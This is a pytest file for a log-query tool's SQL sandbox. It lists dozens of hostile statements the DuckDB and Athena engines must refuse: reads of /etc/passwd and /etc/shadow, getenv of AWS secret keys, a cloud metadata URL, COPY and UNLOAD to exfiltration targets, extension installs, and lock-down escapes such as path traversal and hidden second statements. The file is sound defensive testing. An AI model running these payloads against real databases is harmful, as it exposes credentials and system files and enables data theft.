"""The engine sandbox, tried as an attacker would: hostile SQL through ``query sql``, saved queries in
``[queries] dirs`` and both engines; and DuckDB's own lock-down, with the statement check bypassed.

Every statement of ``HOSTILE`` must be refused before an engine sees it (a ``QueryError``: the
sandbox's ``SandboxError``, or a syntax error for what sqlglot cannot even parse), never run.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from logpipe.config import Config, EngineConfig, StoreConfig
from logpipe.engines import BoundStatement
from logpipe.engines.raw_sql import connect
from logpipe.engines.sandbox import SandboxError, check_read_only
from logpipe.engines.transpile import parse
from logpipe.errors import QueryError
from logpipe.queries.loader import parse_query_text
from logpipe.queries.runner import adhoc_query, run_sql
from logpipe.store import Store, gzip_lines

# (statement, a word the refusal names). Paths under {tmp} are where a write would land.
HOSTILE: list[tuple[str, str]] = [
    # file and network functions
    ("SELECT * FROM read_text('/etc/passwd')", "read_text"),
    ("SELECT * FROM read_csv('/etc/passwd')", "READ_CSV"),
    ("SELECT read_blob('/etc/shadow')", "read_blob"),
    ("SELECT * FROM read_json('/etc/x.json')", "read_json"),
    ("SELECT * FROM read_json_auto('/etc/x.json')", "read_json_auto"),
    ("SELECT * FROM read_parquet('{tmp}/x.parquet')", "READ_PARQUET"),
    ("SELECT * FROM parquet_scan('{tmp}/x.parquet')", "parquet_scan"),
    ("SELECT * FROM sniff_csv('/etc/passwd')", "sniff_csv"),
    ("SELECT * FROM glob('/*')", "glob"),  # a table function, refused by name
    ("SELECT * FROM read_text(['/etc/passwd', '/etc/hostname'])", "read_text"),
    ("SELECT * FROM query('SELECT 42')", "query"),
    ("SELECT getenv('AWS_SECRET_ACCESS_KEY')", "getenv"),
    ("SELECT current_setting('allowed_directories')", "current_setting"),
    ("SELECT * FROM duckdb_settings()", "duckdb_settings"),
    # quoted identifiers, case and look-alike tricks
    ("SELECT * FROM \"read_text\"('/etc/passwd')", "read_text"),
    ("SELECT * FROM \"/etc/passwd\"", "/etc/passwd"),
    ("SeLeCt * FrOm ReAd_TeXt('/etc/passwd')", "ReAd_TeXt"),
    ("SELECT * FROM \uff52\uff45\uff41\uff44_\uff54\uff45\uff58\uff54('/etc/passwd')", "refused"),  # fullwidth
    ("SELECT * FROM r\u0435ad_text('/etc/passwd')", "table function"),  # Cyrillic e
    ("SELECT * FROM \"LOGS_RAW\"", "LOGS_RAW"),
    # writes and statements that are not queries
    ("COPY (SELECT 1) TO '{tmp}/copied.csv'", "COPY"),
    ("COPY logs TO '{tmp}/all.parquet' (FORMAT parquet)", "COPY"),
    ("/* looks harmless */ COPY (SELECT 1) TO '{tmp}/commented.csv'", "COPY"),
    ("ATTACH '{tmp}/x.db' AS x", "syntax error"),
    ("INSTALL httpfs", "INSTALL"),
    ("LOAD httpfs", "LOAD"),
    ("SET enable_external_access = true", "SET"),
    ("SET threads = 1", "SET"),
    ("PRAGMA enable_profiling", "PRAGMA"),
    ("CALL pragma_version()", "CALL"),
    ("EXPORT DATABASE '{tmp}/export'", "syntax error"),
    ("CREATE TABLE stolen AS SELECT * FROM logs", "CREATE"),
    ("CREATE VIEW v AS SELECT 1", "CREATE"),
    ("INSERT INTO logs VALUES (1)", "INSERT"),
    ("DELETE FROM logs", "DELETE"),
    ("UPDATE logs SET message = 'x'", "UPDATE"),
    ("DROP TABLE logs", "DROP"),
    ("ALTER TABLE logs ADD COLUMN x int", "ALTER"),
    ("TRUNCATE TABLE logs", "TRUNCATE"),
    ("SELECT * INTO stolen FROM logs", "INTO"),
    ("DESCRIBE logs", "DESCRIBE"),
    ("SHOW TABLES", "SHOW"),
    ("EXPLAIN ANALYZE SELECT 1", "EXPLAIN"),
    ("USE other_db", "USE"),
    # Athena: UNLOAD, CTAS, partitions, other tables and catalogs, polymorphic table functions
    ("UNLOAD (SELECT * FROM logs) TO 's3://exfil/x/' WITH (format = 'TEXTFILE')", "UNLOAD"),
    ("MSCK REPAIR TABLE logs", "MSCK"),
    ("SELECT * FROM other_db.secrets", "other_db.secrets"),
    ("SELECT * FROM \"awsdatacatalog\".\"default\".\"users\"", "awsdatacatalog.default.users"),
    ("SELECT * FROM information_schema.tables", "information_schema.tables"),
    ("SELECT * FROM TABLE(system.query(query => 'SELECT 1'))", "refused"),
    # several statements, and comments hiding the second one
    ("SELECT 1; SELECT * FROM read_text('/etc/passwd')", "exactly one SQL statement"),
    ("SELECT 1 /* ; */ ; COPY (SELECT 1) TO '{tmp}/second.csv'", "exactly one SQL statement"),
    ("SELECT 1 -- the rest is a comment?\n; DROP TABLE logs", "exactly one SQL statement"),
    ("SELECT 1;;COPY (SELECT 1) TO '{tmp}/third.csv'", "exactly one SQL statement"),
    # writes and file reads hidden in CTEs, subqueries, joins and set operations
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "INSERT"),
    ("WITH files AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM files", "read_text"),
    ("SELECT * FROM logs WHERE message IN (SELECT content FROM read_text('/etc/passwd'))", "read_text"),
    ("SELECT * FROM logs, LATERAL read_text('/etc/passwd')", "read_text"),
    ("SELECT * FROM logs JOIN read_csv('/etc/passwd') AS p ON true", "READ_CSV"),
    ("SELECT message FROM logs UNION ALL SELECT content FROM read_text('/etc/passwd')", "read_text"),
    ("VALUES ((SELECT content FROM read_text('/etc/passwd')))", "read_text"),
    ("(SELECT * FROM read_blob('/etc/shadow'))", "read_blob"),
    # DuckDB's own shortcuts: a file path as a table, FROM-first, prepared statements, secrets
    ("SELECT * FROM '/etc/passwd'", "/etc/passwd"),
    ("FROM read_text('/etc/passwd')", "read_text"),
    ("SELECT * FROM logs CROSS JOIN glob('/*')", "glob"),
    ("SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')", "read_text"),
    ("SELECT * FROM sqlite_scan('{tmp}/x.db', 't')", "sqlite_scan"),
    ("SELECT * FROM duckdb_secrets()", "duckdb_secrets"),
    ("SELECT list_transform([1], x -> (SELECT content FROM read_text('/etc/passwd')))", "read_text"),
    ("PREPARE p AS COPY (SELECT 1) TO '{tmp}/prepared.csv'", "PREPARE"),
    ("EXECUTE p", "EXECUTE"),
    ("CALL read_text('/etc/passwd')", "CALL"),
    ("CREATE SECRET s (TYPE s3, KEY_ID 'x')", "CREATE"),
    ("SET VARIABLE x = '/etc/passwd'", "SET"),
    ("CHECKPOINT", "CHECKPOINT"),
    ("DETACH x", "DETACH"),
    ("BEGIN TRANSACTION", "TRANSACTION"),
    ("CREATE EXTERNAL TABLE t (a int) LOCATION 's3://exfil/'", "CREATE"),
    ("SELECT * FROM system.runtime.nodes", "system.runtime.nodes"),
    ("SELECT * FROM \"logs$partitions\"", "logs$partitions"),
]

# What must keep working: reads of logs, CTEs, UNNEST, VALUES, set operations.
BENIGN = [
    "SELECT count(*) AS n FROM logs",
    "WITH e AS (SELECT service FROM logs WHERE level = 'ERROR') SELECT service, count(*) AS n FROM e GROUP BY 1",
    "SELECT w FROM logs CROSS JOIN UNNEST(split(message, ' ')) AS t(w) LIMIT 3",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT * FROM (VALUES (1), (2)) AS t(x)",
    "(SELECT 1 AS x) UNION ALL (SELECT 2 AS x)",
    "SELECT \"LOGS\".service FROM \"LOGS\" LIMIT 1",
    "SELECT regexp_replace(message, '[0-9]+', '<n>') AS m FROM logs LIMIT 1",
]

NOW = datetime.now(UTC).replace(microsecond=0)


def _statement(sql: str, tmp: Path) -> str:
    return sql.replace("{tmp}", str(tmp))


def seed(root: Path) -> None:
    store = Store(StoreConfig(root=str(root)))
    moment = NOW - timedelta(minutes=5)
    lines = [json.dumps({"time": moment.isoformat(), "service": "api", "level": "ERROR",
                         "message": f"order {i} failed"}).encode() for i in range(3)]
    store.write_object(store.layout.object_key(moment), gzip_lines(lines))


def test_the_corpus_is_large_and_distinct() -> None:
    assert len(HOSTILE) >= 30 and len({s for s, _ in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize(("sql", "named"), HOSTILE)
def test_hostile_statement_is_refused_by_the_query_sql_path(sql: str, named: str, tmp_path: Path) -> None:
    with pytest.raises(QueryError) as caught:
        adhoc_query(_statement(sql, tmp_path))
    message = str(caught.value)
    assert named.lower() in message.lower(), message
    assert "<sql>" in message
    assert not list(tmp_path.iterdir())  # nothing was written


@pytest.mark.parametrize("sql", BENIGN)
def test_reads_of_logs_pass(sql: str) -> None:
    check_read_only(parse(sql))


@pytest.mark.parametrize(("sql", "named"), HOSTILE)
def test_hostile_saved_query_is_refused_at_load(sql: str, named: str, tmp_path: Path) -> None:
    text = f"-- name: evil\n-- description: looks like a report\n\n{_statement(sql, tmp_path)}\n"
    with pytest.raises(QueryError) as caught:
        parse_query_text(text, tmp_path / "evil.sql")
    assert "evil.sql" in str(caught.value) and named.lower() in str(caught.value).lower()


def test_no_bound_statement_without_the_check() -> None:
    """Both engines take only a BoundStatement, and one cannot be made of a hostile tree."""
    for sql, _ in HOSTILE:
        try:
            tree = parse(sql)
        except QueryError:
            continue  # not even one statement
        with pytest.raises(SandboxError):
            BoundStatement(tree=tree, values={}, types={}, window_start=NOW - timedelta(hours=1), window_end=NOW)


def test_query_sql_cli_refuses_and_runs_nothing(cli, tmp_path: Path) -> None:
    seed(cli.cwd / "logpipe-data")
    refused = 0
    for sql, named in HOSTILE:
        code, out, err = cli("query", "sql", _statement(sql, tmp_path), "--since", "1h", "--format", "json")
        assert code != 0, (sql, out)
        assert named.lower() in err.lower() and "Traceback" not in err, (sql, err)
        assert "root:" not in out  # /etc/passwd never printed
        refused += 1
    assert refused == len(HOSTILE)
    assert not [p for p in tmp_path.iterdir() if p.name != "cwd"]  # no COPY/EXPORT/ATTACH target exists
    code, out, err = cli("query", "sql", "SELECT count(*) AS n FROM logs", "--since", "1h", "--format", "json")
    assert code == 0 and json.loads(out) == {"n": 3}, err


def test_saved_query_in_queries_dirs_is_refused_everywhere(cli, tmp_path: Path) -> None:
    seed(cli.cwd / "logpipe-data")
    extra = tmp_path / "team-queries"
    extra.mkdir()
    (extra / "exfil.sql").write_text("-- name: exfil\n-- description: nightly export\n-- schedule: 0 * * * *\n\n"
                                     f"COPY (SELECT * FROM logs) TO '{tmp_path}/exfil.csv'\n")
    (cli.cwd / "logpipe.toml").write_text(f"[queries]\ndirs = [{json.dumps(str(extra))}]\n")
    for argv in (("query", "list"), ("query", "run", "exfil"), ("run",)):
        code, _, err = cli(*argv)
        assert code != 0 and "exfil.sql" in err and "refused COPY" in err, (argv, err)
    assert not (tmp_path / "exfil.csv").exists()


def test_athena_engine_refuses_before_calling_athena(aws: str, boto_client: Any, tmp_path: Path) -> None:
    boto_client("s3").create_bucket(Bucket="athena-results")
    config = Config.model_validate({"engine": {"kind": "athena", "output_location": "s3://athena-results/q/"},
                                    "state": {"url": f"sqlite:///{tmp_path}/state.db"}})
    for sql, _ in HOSTILE:
        with pytest.raises(QueryError):
            run_sql(config, _statement(sql, tmp_path), NOW - timedelta(hours=1), NOW, engine="athena")
    assert boto_client("athena").list_query_executions()["QueryExecutionIds"] == []
    run_sql(config, "SELECT count(*) AS n FROM logs", NOW - timedelta(hours=1), NOW, engine="athena")
    assert len(boto_client("athena").list_query_executions()["QueryExecutionIds"]) == 1


def test_duckdb_engine_runs_reads_and_refuses_the_rest(tmp_path: Path) -> None:
    root = tmp_path / "store"
    seed(root)
    config = Config.model_validate({"store": {"root": str(root), "cache_dir": str(tmp_path / "cache")},
                                    "state": {"url": f"sqlite:///{tmp_path}/state.db"}})
    for sql, _ in HOSTILE:
        with pytest.raises(QueryError):
            run_sql(config, _statement(sql, tmp_path), NOW - timedelta(hours=1), NOW, engine="duckdb")
    for sql in BENIGN:
        run_sql(config, sql, NOW - timedelta(hours=1), NOW, engine="duckdb")


# -- DuckDB's own wall, with the statement check out of the way ---------------------------------------

RAW_ESCAPES = [
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/hostname')",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_text('{allowed}/../../../etc/passwd')",
    "SELECT * FROM glob('/*')",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "COPY (SELECT 1) TO '{tmp}/escaped.csv'",
    "ATTACH '{tmp}/attached.db' AS a",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "RESET lock_configuration",
    "SET allowed_directories = ['/']",
    "PRAGMA threads = 1",
    "EXPORT DATABASE '{tmp}/exported'",
]


@pytest.mark.parametrize("sql", RAW_ESCAPES)
def test_duckdb_connection_is_locked_down(sql: str, tmp_path: Path) -> None:
    import duckdb

    allowed = tmp_path / "store" / "dt=2026-01-01" / "hour=00"
    allowed.mkdir(parents=True)
    (allowed / "x.json").write_text('{"a": 1}\n')
    con = connect(EngineConfig(), readable=[str(allowed)])
    try:
        assert con.execute(f"SELECT a FROM read_json('{allowed}/x.json')").fetchall() == [(1,)]
        with pytest.raises(duckdb.Error):
            con.execute(sql.replace("{tmp}", str(tmp_path)).replace("{allowed}", str(allowed))).fetchall()
    finally:
        con.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["store"]


def test_duckdb_still_writes_into_a_readable_folder_so_statements_are_checked_first(tmp_path: Path) -> None:
    """Why the sqlglot check is not optional (STACK-NOTES): DuckDB's lock-down allows a COPY into a
    folder it may read. The check refuses the statement before DuckDB sees it."""
    con = connect(EngineConfig(), readable=[str(tmp_path)])
    try:
        con.execute(f"COPY (SELECT 1) TO '{tmp_path}/inside.csv'")
    finally:
        con.close()
    assert (tmp_path / "inside.csv").exists()
    with pytest.raises(SandboxError, match="refused COPY"):
        adhoc_query(f"COPY (SELECT 1) TO '{tmp_path}/inside2.csv'")
